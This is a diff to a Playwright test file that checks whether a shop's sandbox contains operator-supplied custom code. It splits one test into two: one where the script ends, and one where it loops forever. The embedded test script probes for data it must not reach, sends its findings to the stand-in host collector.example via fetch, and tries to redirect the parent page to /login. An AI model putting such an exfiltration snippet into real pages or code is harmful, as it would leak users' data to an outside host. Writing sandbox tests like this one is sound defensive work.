@@ -1,10 +1,11 @@
-import { expect } from '@playwright/test';
+import { expect, type Page } from '@playwright/test';
 import { customCodePolicy } from '../../server/edge/html/custom-code.ts';
-import { onScreen, openWithSession, test } from './shop.ts';
+import { long } from '../tier.ts';
+import { onScreen, openWithSession, type Shop, test } from './shop.ts';
 import { say } from './words.ts';
 
-/** Looks for everything that it must not get, tells what it found, and then never ends. */
-const code = `
+/** Looks for everything that it must not get, and tells what it found; then it never ends, which takes a processor, or it does. */
+const codeThat = (then: 'ends' | 'never ends') => `
   const look = (name, find) => {
     let found;
     try { found = String(find()); } catch (error) { found = 'refused'; }
@@ -20,7 +21,7 @@ const code = `
   ]);
   addEventListener('message', (event) => {
     fetch('https://collector.example/' + encodeURIComponent(JSON.stringify({ ...found, told: event.data })), { mode: 'no-cors' })
-      .finally(() => { for (;;); });
+      ${then === 'never ends' ? '.finally(() => { for (;;); })' : ''};
   });
   parent.postMessage({ type: 'visit', to: '/login' }, '*');
 `;
@@ -28,7 +29,7 @@ const code = `
 test.describe('the code of an operator', () => {
   test.use({ foreseen: /^(?:Unsafe attempt to initiate navigation|Blocked opening)/ });
 
-  test('gets at nothing of the shop, and the shop stays alive when it never ends', async ({ page, shop }) => {
+  const getsNothing = async (page: Page, shop: Shop, code: string) => {
     const told: Record<string, unknown>[] = [];
     await page.route('https://collector.example/**', async (route) => {
       told.push(JSON.parse(decodeURIComponent(new URL(route.request().url()).pathname.slice(1))));
@@ -77,5 +78,11 @@ test.describe('the code of an operator', () => {
     await profile.getByRole('button', { name: say('common.profile_menu') }).click();
     await profile.getByRole('menuitem', { name: say('common.log_out') }).click();
     await page.waitForURL(/\/login/);
-  });
+  };
+
+  test('gets at nothing of the shop', ({ page, shop }) => getsNothing(page, shop, codeThat('ends')));
+
+  test('leaves the shop alive when it never ends', long, ({ page, shop }) =>
+    getsNothing(page, shop, codeThat('never ends')),
+  );
 });
